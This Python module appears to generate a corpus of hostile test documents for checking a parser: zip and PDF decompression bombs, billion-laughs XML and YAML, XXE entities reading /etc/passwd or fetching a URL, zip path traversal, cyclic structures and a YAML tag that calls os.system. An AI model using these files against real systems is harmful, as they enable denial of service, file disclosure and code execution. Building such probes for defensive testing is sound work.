"""Files built to do harm, made in memory: each is small itself and would cost a careless reader its computer."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator

from pdf_builder import assembled, pdf, stream, text
from word_builder import docx, packed, para, part, relations, run

Maker = Callable[[], bytes]

_MEGABYTE = 1 << 20
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_MAIN = {"_rels/.rels": relations(("r1", "officeDocument", "word/document.xml"))}
_OPEN, _CLOSE = part("document", "|").encode().split(b"|")


# -- archives -------------------------------------------------------------------------------------


def zipped(files: dict[str, bytes]) -> bytes:
    """A zip of these files; names may be there twice."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in files.items():
            target.writestr(name.rstrip("*"), data)
    return made.getvalue()


def inflating(megabytes: int, start: bytes = b"", fill: bytes = b" ", end: bytes = b"", *, raw: bool = True) -> bytes:
    """Compressed data of so many megabytes of *fill*, made in no time: a stretch of it is said again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15 if raw else 15)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(fill * (_MEGABYTE // len(fill))) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + again * megabytes + packer.compress(end) + packer.flush(zlib.Z_FINISH)


def raw_zip(entries: list[tuple[str, bytes, int, int]], first: bytes, *, shared: bool = False) -> bytes:
    """A zip of a Word file's first relationships and of deflated data with stated sizes.

    *shared* lets all names point to one and the same data.
    """
    out, table, at = bytearray(), bytearray(), 0
    listed = [("_rels/.rels", *true(inflating(0, first))), *entries]
    for number, (name, data, size, check) in enumerate(listed):
        encoded = name.encode()
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, check, len(data), size, len(encoded), 0)
        if not shared or number < 2:
            at = len(out)
            out += b"PK\x03\x04" + fields + encoded + data
        table += b"PK\x01\x02\x14\x00" + fields + struct.pack("<HHHII", 0, 0, 0, 0, at) + encoded
    end = struct.pack("<HHHHIIH", 0, 0, len(listed), len(listed), len(table), len(out), 0)
    return bytes(out + table + b"PK\x05\x06" + end)


def true(data: bytes) -> tuple[bytes, int, int]:
    """Deflated data with its size and its checksum."""
    whole = zlib.decompress(data, -15)
    return data, len(whole), zlib.crc32(whole)


def word_zip(document: bytes, size: int = 0) -> bytes:
    """A Word file whose main part is this deflated data, of its true size or of one that is only stated."""
    entry = (document, size, 0) if size else true(document)
    return raw_zip([("word/document.xml", *entry)], _MAIN["_rels/.rels"].encode())


def odt(picture: str, section: str = "", body: str = "") -> bytes:
    """An OpenDocument text with a linked picture and a linked section."""
    spaces = "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{rest}:1.0"'
        for name, rest in {"office": "office", "text": "text", "draw": "drawing"}.items()
    )
    linked = (
        f'<text:section text:name="s"><text:section-source xlink:href="{section}"/></text:section>' if section else ""
    )
    content = (
        f'<office:document-content{spaces} xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">'
        f"<office:body><office:text><text:p>Sweeps streets.</text:p>{body}<text:p><draw:frame><draw:image xlink:href="
        f'"{picture}" xlink:type="simple"/></draw:frame></text:p>{linked}</office:text></office:body>'
        "</office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as target:
        target.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        target.writestr("content.xml", content)
        target.writestr("META-INF/manifest.xml", manifest)
    return made.getvalue()


# -- Word -----------------------------------------------------------------------------------------


def _nested(tag: str, times: int, inside: str = "", end: str = "") -> str:
    opening = "".join(f"<w:{name}>" for name in tag.split())
    closing = "".join(f"</w:{name}>" for name in reversed(tag.split()))
    return opening * times + inside + (end + closing) * times


def _entities(declared: str, used: str) -> bytes:
    body = part("document", f"<w:body><w:p><w:r><w:t>{used}</w:t></w:r></w:p></w:body>")
    return packed(_MAIN | {"word/document.xml": f"<!DOCTYPE w:document [{declared}]>{body}"})


def _styles(count: int) -> str:
    each = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/>'
        f'<w:basedOn w:val="s{(n + 1) % count}"/></w:style>'
        for n in range(count)
    )
    return part("styles", each)


def _numbering() -> str:
    levels = "".join(
        f'<w:lvl w:ilvl="{n}"><w:start w:val="{2**40}"/><w:numFmt w:val="{kind}"/>'
        f'<w:lvlText w:val="{"%1%9%0%%" * 50}"/></w:lvl>'
        for n, kind in ((0, "upperRoman"), (1, "upperLetter"), (-1, "chicago"), (99999, "decimal"))
    )
    nums = (
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num><w:num w:numId="2"><w:abstractNumId w:val="x"/></w:num>'
    )
    return part("numbering", f'<w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>{nums}')


def _numbered(level: object, number: object) -> str:
    return para("x", properties=f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr>')


def word_files(url: str) -> Iterator[tuple[str, Maker]]:
    """Word files; those that want to fetch something want it from *url*."""
    paragraph = b"<w:p><w:r><w:t>aaaaaaaa</w:t></w:r></w:p>"
    yield "ratio", lambda: word_zip(inflating(2000, _OPEN), 2000 * _MEGABYTE)
    yield "stated-size-is-a-lie", lambda: word_zip(inflating(2000, _OPEN), 100)
    yield "just-under-a-part", lambda: word_zip(inflating(60, _OPEN, end=_CLOSE))
    yield "paragraphs", lambda: word_zip(inflating(60, _OPEN, paragraph, _CLOSE))
    yield "many-entries", lambda: zipped({f"word/{n}.xml": b"" for n in range(20_000)})
    yield (
        "overlapping-entries",
        lambda: raw_zip(
            [(f"word/{name}.xml", inflating(500), 500 * _MEGABYTE, 0) for name in ("document", *range(200))],
            _MAIN["_rels/.rels"].encode(),
            shared=True,
        ),
    )
    yield (
        "two-of-one-name",
        lambda: zipped(
            {
                **{name: data.encode() for name, data in _MAIN.items()},
                "word/document.xml": b"<a/>",
                "word/document.xml*": b"<b/>",
            }
        ),
    )
    yield "names-differ-in-case", lambda: packed(_MAIN | {"word/document.xml": "<a/>", "WORD/Document.xml": "<b/>"})
    yield "name-climbs-out", lambda: packed({"_rels/.rels": relations(("r1", "officeDocument", "../../../etc/passwd"))})
    yield "nested-tables", lambda: docx(_nested("tbl tr tc", 80, para("x"), para("")))
    yield "nested-tables-deep", lambda: docx(_nested("tbl tr tc", 4000, para("x"), para("")))
    yield "deep-xml", lambda: docx(_nested("sdt sdtContent", 100_000))
    yield "deep-changes", lambda: docx(f"<w:p>{_nested('ins', 240, run('x'))}</w:p>")
    yield (
        "wide-cell",
        lambda: docx(
            f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{10**8}"/></w:tcPr>{para("x")}</w:tc></w:tr></w:tbl>'
        ),
    )
    yield "billion-laughs", lambda: _entities(f'<!ENTITY l0 "ha">{_LAUGHS}', "&l9;")
    yield "quadratic", lambda: _entities(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 10_000)
    yield "entity-file", lambda: _entities('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;")
    yield "entity-net", lambda: _entities(f'<!ENTITY a SYSTEM "{url}/entity">', "&a;")
    yield "entity-parameter", lambda: _entities(f'<!ENTITY % a SYSTEM "{url}/parameter"> %a;', "x")
    yield (
        "external-parts",
        lambda: docx(
            para("x") + '<w:altChunk r:id="r9"/>',
            (
                ("r8", "styles", f"{url}/styles"),
                ("r9", "aFChunk", f"{url}/chunk"),
                ("r7", "attachedTemplate", f"{url}/t"),
            ),
        ),
    )
    yield "main-part-elsewhere", lambda: packed({"_rels/.rels": relations(("r1", "officeDocument", f"{url}/main"))})
    yield "style-cycle", lambda: docx(para("x", properties='<w:pStyle w:val="s0"/>'), styles=_styles(3))
    yield "style-chain", lambda: docx(para("x", properties='<w:pStyle w:val="s0"/>') * 2000, styles=_styles(5000))
    yield (
        "numbering",
        lambda: docx(
            "".join(_numbered(level, number) for level in (0, 1, -1, 99999, "x") for number in (1, 2, 7, -1, "y"))
            * 200,
            numbering=_numbering(),
        ),
    )
    yield "huge-paragraph", lambda: docx(para("word " * 1_600_000))
    yield "huge-word", lambda: docx(para("a" * 9_000_000))
    yield "runs", lambda: docx(f"<w:p>{run('a ') * 100_000}</w:p>")
    yield (
        "comments-crossing",
        lambda: docx(
            para(*(f'<w:commentRangeStart w:id="{n}"/>' for n in range(20_000)), "x"), comments=part("comments", "")
        ),
    )


# -- PDF ------------------------------------------------------------------------------------------


def pdf_files(url: str) -> Iterator[tuple[str, Maker]]:
    """PDF files; those that want to fetch something want it from *url*."""
    flate = "/Filter/FlateDecode"

    def bomb(data: bytes, entries: str = flate) -> bytes:
        made = pdf([["x"]], resources="/XObject<</X 100 0 R>>")
        page = made.index(b"/Contents 1001 0 R")
        objects = made[:page] + b"/Contents 100 0 R /Other" + made[page + 9 :]
        return objects.replace(b"xref", b"100 0 obj\n" + stream(data, entries) + b"\nendobj\nxref", 1)

    def many(pages: int) -> bytes:
        kids = b" ".join([b"4 0 R"] * pages)
        return assembled(
            {
                1: b"<</Type/Catalog/Pages 2 0 R>>",
                2: b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
                4: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
            }
        )

    words = "BT /F 11 Tf 72 700 Td (word) Tj ET\n"
    form = stream(b"/X Do " * 20, "/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X 100 0 R>>>>")
    forms = [
        stream(
            f"/X{n + 1} Do ".encode() * 20,
            f"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X{n + 1} {101 + n} 0 R>>>>",
        )
        for n in range(12)
    ]
    yield "spaces", lambda: bomb(inflating(1000, raw=False))
    yield (
        "spaces-twice-packed",
        lambda: bomb(zlib.compress(inflating(1000, raw=False), 9), "/Filter[/FlateDecode/FlateDecode]"),
    )
    yield "text", lambda: bomb(inflating(60, b"", words.encode(), raw=False))
    yield "one-long-string", lambda: bomb(inflating(50, b"BT /F 11 Tf 72 700 Td (", b"a", raw=False))
    yield "strokes", lambda: bomb(inflating(20, b"", b"0 0 m 9 9 l S\n", raw=False))
    yield "many-pages", lambda: many(200_000)
    yield "page-count-is-a-lie", lambda: many(3).replace(b"/Count 3", b"/Count 999999999")
    yield (
        "pages-in-a-circle",
        lambda: assembled({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>"}),
    )
    yield "form-in-itself", lambda: pdf([["/X Do"]], resources="/XObject<</X 100 0 R>>", extra=[form])
    yield "forms-in-forms", lambda: pdf([["/X0 Do"]], resources="/XObject<</X0 100 0 R>>", extra=forms)
    yield "deep-arrays", lambda: pdf([b"[" * 500_000 + b"]" * 500_000])
    yield "deep-objects", lambda: assembled({1: b"<</Type/Catalog/Pages " + b"[" * 200_000 + b"]" * 200_000 + b">>"})
    yield "saved-states", lambda: pdf([b"q " * 1_000_000])
    yield "huge-page", lambda: pdf([[text(10, 10, "x")]], page="/MediaBox[-1e30 -1e30 1e30 1e30]")
    yield "letters-far-away", lambda: pdf([[f"BT /F 1e30 Tf 1e30 0 0 1e30 1e30 1e30 Tm ({'x' * 5000}) Tj ET"] * 20])
    yield "one-line-of-letters", lambda: pdf([[f"BT /F 1 Tf 72 700 Td ({'x ' * 100_000}) Tj ET"]])
    yield (
        "scattered-letters",
        lambda: pdf([[f"BT /F 3 Tf 1 0 0 1 {n * 7 % 600} {n * 13 % 780} Tm (x) Tj ET" for n in range(20_000)]]),
    )
    yield (
        "wants-the-net",
        lambda: pdf(
            [["x"]],
            page=f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI({url}/link)>>>>]"
            f"/AA<</O<</S/GoToR/F({url}/other.pdf)>>>>",
        ),
    )
    yield "cut-off", lambda: pdf([[text(72, 100, "Sweeps streets.")]])[:-150]
    yield "noise", lambda: b"%PDF-1.7\n" + bytes(n * 7919 % 256 for n in range(200_000))


# -- text, Markdown, YAML -------------------------------------------------------------------------


def text_files(url: str) -> Iterator[tuple[str, Maker]]:
    """Text, Markdown and YAML, by whole names."""
    for character in "a#*_[>~`{<!&|-+1.: \n\t(\u00e9":
        name = f"megabyte-of-{ord(character):02x}"
        for suffix in ("txt", "md"):
            yield f"{name}.{suffix}", lambda character=character: (character * _MEGABYTE).encode()  # type: ignore[misc]
    for name, piece in {
        "quotes": "> ",
        "lists": "- ",
        "strikes": "~~a",
        "links": "[a](",
        "critic": "{~~a~>",
        "tags": "<b>",
    }.items():
        yield f"megabyte-of-{name}.md", lambda piece=piece: (piece * (_MEGABYTE // len(piece))).encode()  # type: ignore[misc]
    yield "large.md", lambda: b"~~a" * (32 * _MEGABYTE // 3)
    yield "large.txt", lambda: b"a\n" * (16 * _MEGABYTE)
    yield "deep-list.md", lambda: "".join(f"{'  ' * n}- a\n" for n in range(1000)).encode()
    yield "picture.md", f"# Title\n\n![]({url}/picture) <img src='{url}/tag'>\n".encode
    laughs = "".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 10))
    yield "laughs.yaml", f"title: x\nl0: &l0 [a, a]\n{laughs}duties: *l9\n".encode
    yield "brackets.yaml", lambda: b"[" * 100_000
    yield "flow.yaml", lambda: b"title: x\nduties: " + b"{a: " * 5000 + b"}" * 5000
    yield "deep.yaml", lambda: b"title: x\n" + "".join(f"{' ' * n}a{n}:\n" for n in range(1500)).encode()
    yield "anchors-in-a-circle.yaml", lambda: b"title: x\nduties: &a [*a]\n"
    yield "tags.yaml", lambda: b"title: !!python/object/apply:os.system ['touch caught']\nduties: [a]\n"
    yield "long-key.yaml", lambda: b"title: x\nduties:\n  - " + b"a" * _MEGABYTE
    yield "merge.yaml", lambda: b"title: x\nduties: &a {<<: *a}\n"
